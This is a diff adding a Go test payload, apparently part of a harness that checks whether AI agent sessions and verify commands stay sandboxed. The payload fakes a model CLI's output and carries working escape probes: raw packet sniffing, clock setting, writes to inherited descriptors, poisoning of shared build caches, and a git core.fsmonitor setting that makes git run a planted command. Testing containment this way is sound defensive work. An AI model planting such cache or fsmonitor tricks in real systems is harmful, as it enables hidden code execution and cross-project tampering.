@@ -1,0 +1,125 @@
+package main
+
+import (
+	"fmt"
+	"io/fs"
+	"net/http"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+const (
+	// payloadWord, as the first argument, makes this program the payload of an attack.
+	payloadWord = "payload"
+	// reportPath is where the payload reports to, ranReport what it says when it is done.
+	reportPath = "/break/report"
+	ranReport  = "ran"
+)
+
+// payload is what runs on the attacked machine: payload KIND URL ROLE, the role being that of a
+// model CLI ("session"), of a verify command ("verify"), or of a command that something else is
+// made to run ("bait").
+func payload(args []string) {
+	if len(args) < 3 {
+		return
+	}
+	p := intruder{kind: args[0], url: args[1], role: args[2]}
+	switch {
+	case p.role == "session" && len(args) > 3 && args[3] == "--version":
+		fmt.Println("9.9.9 (Claude Code)")
+		return
+	case p.role == "bait":
+		p.report("its command ran")
+		return
+	}
+	switch p.kind {
+	case "caches":
+		p.caches()
+	case "nested":
+		p.nested()
+	case "packets":
+		if fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0); err == nil {
+			_ = unix.Close(fd)
+			p.report("a " + p.role + " listens to all packets")
+		}
+	case "clock":
+		var now unix.Timeval
+		if unix.Gettimeofday(&now) == nil && unix.Settimeofday(&now) == nil {
+			p.report("a " + p.role + " set the clock")
+		}
+	case "descriptors":
+		for fd := 3; fd < 64; fd++ {
+			_, _ = unix.Write(fd, []byte("broken"))
+		}
+	}
+	p.report(ranReport)
+	if p.role == "session" {
+		p.answer()
+	}
+}
+
+// intruder is the payload at work.
+type intruder struct{ kind, url, role string }
+
+func (p intruder) report(what string) {
+	if response, err := http.Get(p.url + reportPath + "?what=" + url.QueryEscape(what)); err == nil {
+		_ = response.Body.Close()
+	}
+}
+
+// answer changes a file, so that there is something to verify, and prints what the CLI would.
+func (p intruder) answer() {
+	_ = os.WriteFile("mended.txt", []byte(time.Now().String()+"\n"), 0o600)
+	fmt.Println(`{"type":"assistant","message":{"model":"payload","content":[{"type":"text","text":"Mended."}]}}`)
+	fmt.Println(`{"type":"result","subtype":"success","is_error":false,"terminal_reason":"completed","num_turns":1,"result":"Mended.","total_cost_usd":0.01,"usage":{"input_tokens":1,"output_tokens":1}}`)
+}
+
+// caches writes a file with its name into all caches that it finds, its own and others, and as a
+// verify command looks for names that are not its own.
+func (p intruder) caches() {
+	dir, err := os.Getwd()
+	if err != nil {
+		return
+	}
+	own := p.role + " of " + filepath.Base(dir)
+	dirs := []string{os.Getenv("GOCACHE"), os.Getenv("GOMODCACHE")}
+	if p.role == "verify" {
+		for _, place := range dirs {
+			found, _ := filepath.Glob(filepath.Join(place, "*"))
+			for _, path := range found {
+				if name := filepath.Base(path); strings.Contains(name, " of ") && name != own && !strings.HasSuffix(name, "-base") {
+					p.report(own + " builds on what was written by " + name)
+				}
+			}
+		}
+	}
+	_ = filepath.WalkDir(filepath.Join(filepath.Dir(dir), "cache"), func(path string, e fs.DirEntry, err error) error {
+		if err == nil && e.IsDir() {
+			dirs = append(dirs, path)
+		}
+		return nil
+	})
+	for _, place := range dirs {
+		_ = os.MkdirAll(place, 0o700)
+		_ = os.WriteFile(filepath.Join(place, own), nil, 0o600)
+	}
+}
+
+// nested runs git in a directory, as a build that asks for its version does, and leaves a
+// repository there that has git run the bait.
+func (p intruder) nested() {
+	program, err := os.Executable()
+	if err != nil || p.role != "verify" {
+		return
+	}
+	_ = exec.Command("git", "-C", "lib", "status").Run()
+	for _, args := range [][]string{{"init", "-q", "lib"}, {"-C", "lib", "config", "core.fsmonitor", fmt.Sprintf("'%s' %s %s '%s' bait", program, payloadWord, p.kind, p.url)}} {
+		_ = exec.Command("git", args...).Run()
+	}
+}
